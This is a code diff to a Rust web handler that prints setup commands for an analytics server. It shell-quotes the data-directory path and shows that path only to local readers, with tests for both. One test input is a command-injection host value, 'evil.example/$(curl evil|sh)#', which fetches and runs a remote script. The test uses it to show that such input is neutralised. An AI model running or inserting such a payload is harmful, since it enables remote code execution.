@@ -33,7 +33,12 @@ pub async fn welcome(
     headers: HeaderMap,
 ) -> Response {
     let origin = Origin::new(&headers, peer, &app.config.trusted_proxies);
-    let steps = first_steps(&base_url(&origin));
+    // Someone on the server's machine gets commands for its data directory; anyone else is not
+    // told where it is.
+    let data_dir = origin
+        .is_on_this_machine()
+        .then(|| data_dir_argument(&app.config.data_dir));
+    let steps = first_steps(&base_url(&origin), data_dir.as_deref());
     let wants_html = headers
         .get(header::ACCEPT)
         .and_then(|v| v.to_str().ok())
@@ -74,13 +79,44 @@ fn base_url(origin: &Origin<'_>) -> String {
     }
 }
 
-/// The commands that take a newcomer from a running server to a first answer.
-fn first_steps(base: &str) -> Vec<(&'static str, String)> {
+/// ` --data-dir DIR` for `data_dir`, absolute (the server's working directory is not the
+/// reader's) and quoted for a shell where it needs to be.
+fn data_dir_argument(data_dir: &std::path::Path) -> String {
+    let path = std::path::absolute(data_dir)
+        .unwrap_or_else(|_| data_dir.to_path_buf())
+        .display()
+        .to_string();
+    let plain = path
+        .chars()
+        .all(|c| c.is_ascii_alphanumeric() || matches!(c, '/' | '.' | '_' | '-'));
+    if plain {
+        format!(" --data-dir {path}")
+    } else {
+        format!(" --data-dir '{}'", path.replace('\'', r"'\''"))
+    }
+}
+
+/// The commands that take a newcomer from a running server to a first answer. `data_dir` is
+/// the `--data-dir` argument for the commands run on the server's machine, when the reader is
+/// on it.
+fn first_steps(base: &str, data_dir: Option<&str>) -> Vec<(&'static str, String)> {
+    let (where_keys_are, data_dir) = match data_dir {
+        Some(argument) => (
+            "On this machine, create a write key for a source (it prints the key and nothing \
+             else; a key works only on the server whose data directory holds it)",
+            argument,
+        ),
+        None => (
+            "On the server's machine, create a write key for a source (it prints the key and \
+             nothing else; add --data-dir DIR, the server's data directory, unless it is \
+             ./kith-data where you run the command)",
+            "",
+        ),
+    };
     vec![
         (
-            "On the server's machine, create a write key for a source (it prints the key and \
-             nothing else; add --data-dir DIR if the server's data is not in ./kith-data)",
-            "WRITE_KEY=$(kith key create --scope ingest --source web)".to_string(),
+            where_keys_are,
+            format!("WRITE_KEY=$(kith key create{data_dir} --scope ingest --source web)"),
         ),
         (
             "Send an event, as any Segment or RudderStack SDK would",
@@ -92,13 +128,15 @@ fn first_steps(base: &str) -> Vec<(&'static str, String)> {
         (
             "Create a read key and query what was collected",
             format!(
-                "READ_KEY=$(kith key create --scope read) && curl -H \"Authorization: Bearer $READ_KEY\" {base}/v1/query \
+                "READ_KEY=$(kith key create{data_dir} --scope read) && curl -H \"Authorization: Bearer $READ_KEY\" {base}/v1/query \
                  -d '{{\"sql\": \"SELECT event, count(*) AS n FROM events GROUP BY event\"}}'"
             ),
         ),
         (
             "Or query from the server's machine, with or without the server running",
-            "kith sql \"SELECT event, count(*) AS n FROM events GROUP BY event\"".to_string(),
+            format!(
+                "kith sql{data_dir} \"SELECT event, count(*) AS n FROM events GROUP BY event\""
+            ),
         ),
     ]
 }
@@ -179,6 +217,51 @@ mod tests {
     }
 
     #[test]
+    fn only_a_reader_on_this_machine_is_told_the_data_directory() {
+        let trusted = TrustedProxies::default();
+        let direct = with_headers(&[("host", "127.0.0.1:8417")]);
+        let local = PeerAddress(Some([127, 0, 0, 1].into()));
+        assert!(Origin::new(&direct, local, &trusted).is_on_this_machine());
+        // Relayed by a proxy on this machine, or from elsewhere: not told.
+        let relayed = with_headers(&[("host", "kith.mx"), ("x-forwarded-for", "203.0.113.9")]);
+        assert!(!Origin::new(&relayed, local, &trusted).is_on_this_machine());
+        let remote = PeerAddress(Some([203, 0, 113, 9].into()));
+        assert!(!Origin::new(&direct, remote, &trusted).is_on_this_machine());
+
+        let steps = first_steps("http://127.0.0.1:8417", Some(" --data-dir /srv/kith"));
+        assert_eq!(
+            steps[0].1,
+            "WRITE_KEY=$(kith key create --data-dir /srv/kith --scope ingest --source web)"
+        );
+        assert!(
+            steps[2]
+                .1
+                .starts_with("READ_KEY=$(kith key create --data-dir /srv/kith --scope read)")
+        );
+        assert!(
+            steps[3]
+                .1
+                .starts_with("kith sql --data-dir /srv/kith \"SELECT")
+        );
+        let elsewhere = first_steps("http://127.0.0.1:8417", None);
+        assert!(
+            !elsewhere
+                .iter()
+                .any(|(_, command)| command.contains("--data-dir"))
+        );
+        assert!(elsewhere[0].0.contains("add --data-dir DIR"));
+        // A path with spaces or quotes reaches the shell as one word, whatever it holds.
+        assert_eq!(
+            data_dir_argument(std::path::Path::new("/srv/my kith's data")),
+            r" --data-dir '/srv/my kith'\''s data'"
+        );
+        assert_eq!(
+            data_dir_argument(std::path::Path::new("/srv/kith")),
+            " --data-dir /srv/kith"
+        );
+    }
+
+    #[test]
     fn what_the_request_names_cannot_reach_a_shell_or_the_markup() {
         for host in [
             "evil.example/$(curl evil|sh)#",
@@ -191,7 +274,7 @@ mod tests {
             assert_eq!(base_url(&origin(&headers)), "http://KITH_ADDRESS", "{host}");
         }
         // And the page escapes what it shows all the same.
-        let html = page(&first_steps("http://<b>"));
+        let html = page(&first_steps("http://<b>", None));
         assert!(!html.contains("<b>"), "{html}");
         assert!(html.contains("http://&lt;b&gt;/v1/track"));
     }
